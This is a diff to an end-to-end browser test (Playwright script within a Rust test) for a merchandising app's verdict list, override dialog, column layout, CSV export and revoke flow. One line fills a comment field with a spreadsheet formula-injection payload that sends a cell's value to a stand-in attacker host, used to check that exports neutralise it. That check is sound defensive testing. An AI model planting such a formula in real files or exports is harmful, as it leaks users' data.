@@ -60,6 +60,37 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
         document.querySelector('#f-market').dispatchEvent(new Event('change'));
         return performance.now() - t; }""")
     page.screenshot(path=os.path.join(shots, "01-list.png"), full_page=False)
+    # The decision comes first and by what needs attention: the first rows are keeps.
+    out["sort"] = page.locator("#f-sort").input_value()
+    out["first_verdict"] = page.locator("table#list tbody tr").first.locator("td.verdict .badge.effective").inner_text()
+    out["empty_why"] = page.evaluate("""() => [...document.querySelectorAll('table#list td[data-col="reasons"]')]
+        .filter(td => !td.textContent.trim()).length""")
+
+    # Laptop to desktop: the verdict, the reason, the reorder and the confidence are in
+    # view without scrolling, from the DOM's boxes, and rows stay one line high.
+    def layout(width):
+        page.set_viewport_size({"width": width, "height": 900})
+        page.wait_for_timeout(200)
+        page.screenshot(path=os.path.join(shots, f"00-list-{width}px.png"))
+        return page.evaluate("""() => {
+            const wrap = document.querySelector('#table-wrap .scroll').getBoundingClientRect();
+            const visible = Math.min(document.documentElement.clientWidth, wrap.right);
+            const rows = [...document.querySelectorAll('table#list tbody tr')].slice(0, 40);
+            const right = (col) => Math.max(...rows.map(r => r.querySelector(`td[data-col="${col}"]`).getBoundingClientRect().right));
+            return { visible,
+                     right: Object.fromEntries(['verdict', 'reasons', 'reorder_units', 'confidence'].map(c => [c, right(c)])),
+                     row_height: Math.max(...rows.map(r => r.getBoundingClientRect().height)),
+                     page_scrolls: document.documentElement.scrollWidth > document.documentElement.clientWidth };
+        }""")
+    out["layout"] = {str(w): layout(w) for w in (1024, 1400)}
+    page.set_viewport_size({"width": 1280, "height": 800})
+
+    # The column picker: a hidden column comes back, and the choice survives a redraw.
+    page.locator("#columns summary").click()
+    page.check("#col-sell_through")
+    out["picked_column"] = page.locator('table#list thead th[data-col="sell_through"]').count()
+    page.uncheck("#col-sell_through")
+    page.locator("#columns summary").click()
 
     # Filter to the drops of one category.
     page.select_option("#f-verdict", "drop")
@@ -69,8 +100,8 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     n = rows.count()
     out["drop_rows"] = n
     out["drop_rows_ok"] = all(
-        rows.nth(i).locator("td").nth(2).inner_text() == category
-        and rows.nth(i).locator("td.verdict .badge").inner_text() == "drop" for i in range(n))
+        rows.nth(i).locator('td[data-col="category"]').inner_text() == category
+        and rows.nth(i).locator("td.verdict .badge.effective").inner_text() == "drop" for i in range(n))
     page.screenshot(path=os.path.join(shots, "02-drops-in-category.png"))
 
     # Open the first style; its charts are drawn by the page.
@@ -92,6 +123,15 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     out["dialog_still_open"] = page.locator("#override-dialog").evaluate("d => d.open")
     # A comment a spreadsheet would run as a formula: both exports must write it as text.
     page.fill("#ov-comment", '=HYPERLINK("http://evil.example/?leak="&A1,"Influencer post on Friday, café crème colour")')
+    # A keep orders something: where the plan proposes nothing, the form asks for it.
+    reorder = page.locator("#ov-reorder")
+    out["reorder_required"] = reorder.evaluate("e => e.required")
+    out["reorder_prefill"] = reorder.input_value()
+    out["reorder_plan_text"] = page.locator("#ov-reorder-plan").inner_text()
+    if out["reorder_required"]:
+        page.get_by_role("button", name="Save override").click()
+        out["reorder_blocks_submit"] = page.locator("#override-dialog").evaluate("d => d.open")
+        reorder.fill("150")
     page.get_by_role("button", name="Save override").click()
     expect(page.locator("#effective-verdict")).to_contain_text("keep")
     out["effective_after"] = page.locator("#effective-verdict").inner_text()
@@ -105,6 +145,8 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     row = page.locator(f'table#list tbody tr[data-style="{style_id}"][data-market="ALL"]')
     expect(row.locator("td.verdict")).to_contain_text("override by mer")
     out["list_verdict"] = row.locator("td.verdict").inner_text()
+    out["list_effective"] = row.locator("td.verdict .badge.effective").inner_text()
+    out["list_reorder"] = row.locator('td[data-col="reorder_units"]').inner_text()
     page.screenshot(path=os.path.join(shots, "05-list-after-override.png"))
 
     # Export what is shown: the category's pooled rows, any verdict.
@@ -129,7 +171,7 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     page.fill("#search", style_id)
     row.get_by_role("button", name="Revoke").click()
     expect(row.locator("td.verdict")).not_to_contain_text("override")
-    out["after_revoke"] = row.locator("td.verdict").inner_text()
+    out["after_revoke"] = row.locator("td.verdict .badge.effective").inner_text()
 
     # Keyboard: the filters are reachable and labelled.
     out["labels"] = page.evaluate("""() => [...document.querySelectorAll('select, input')]
@@ -223,8 +265,56 @@ async fn a_merchandiser_filters_overrides_exports_and_revokes_in_a_real_browser(
         "{after}"
     );
     assert_eq!(v["history_rows"], 1);
-    assert!(v["list_verdict"].as_str().unwrap().starts_with("keep"));
-    assert!(v["after_revoke"].as_str().unwrap().starts_with("drop"));
+    assert_eq!(v["list_effective"], "keep");
+    // The keep orders the plan's proposal, or, where the plan proposes none, what the
+    // merchandiser had to enter.
+    if v["reorder_required"] == true {
+        assert_eq!(v["reorder_prefill"], "", "nothing to prefill");
+        assert!(
+            v["reorder_plan_text"]
+                .as_str()
+                .unwrap()
+                .contains("enter how many"),
+            "{}",
+            v["reorder_plan_text"]
+        );
+        assert_eq!(v["reorder_blocks_submit"], true, "no quantity, no keep");
+        assert_eq!(v["list_reorder"], "150");
+    } else {
+        assert_eq!(v["list_reorder"], v["reorder_prefill"]);
+    }
+    assert!(
+        v["list_verdict"]
+            .as_str()
+            .unwrap()
+            .starts_with("drop → keep"),
+        "model → effective: {}",
+        v["list_verdict"]
+    );
+    assert_eq!(v["after_revoke"], "drop");
+    assert_eq!(v["sort"], "attention", "the default sort");
+    assert_eq!(v["first_verdict"], "keep", "keeps need attention first");
+    assert_eq!(v["empty_why"], 0, "every row says why");
+    assert_eq!(
+        v["picked_column"], 1,
+        "the column picker shows a hidden column"
+    );
+    for (width, m) in v["layout"].as_object().unwrap() {
+        let visible = m["visible"].as_f64().unwrap();
+        for (col, right) in m["right"].as_object().unwrap() {
+            let right = right.as_f64().unwrap();
+            assert!(
+                right <= visible,
+                "{width} px: the {col} column ends at {right} px, past the visible {visible} px"
+            );
+        }
+        let height = m["row_height"].as_f64().unwrap();
+        assert!(height <= 40.0, "{width} px: rows {height} px high");
+        assert_eq!(
+            m["page_scrolls"], false,
+            "{width} px: the page scrolls sideways"
+        );
+    }
 
     // The export is exactly the rows shown, against the API's own answer.
     assert_eq!(v["bom"], true, "UTF-8 with BOM for Excel");
@@ -265,6 +355,8 @@ async fn a_merchandiser_filters_overrides_exports_and_revokes_in_a_real_browser(
         "and the server refuses a viewer's override"
     );
     for shot in [
+        "00-list-1024px.png",
+        "00-list-1400px.png",
         "01-list.png",
         "02-drops-in-category.png",
         "03-style.png",
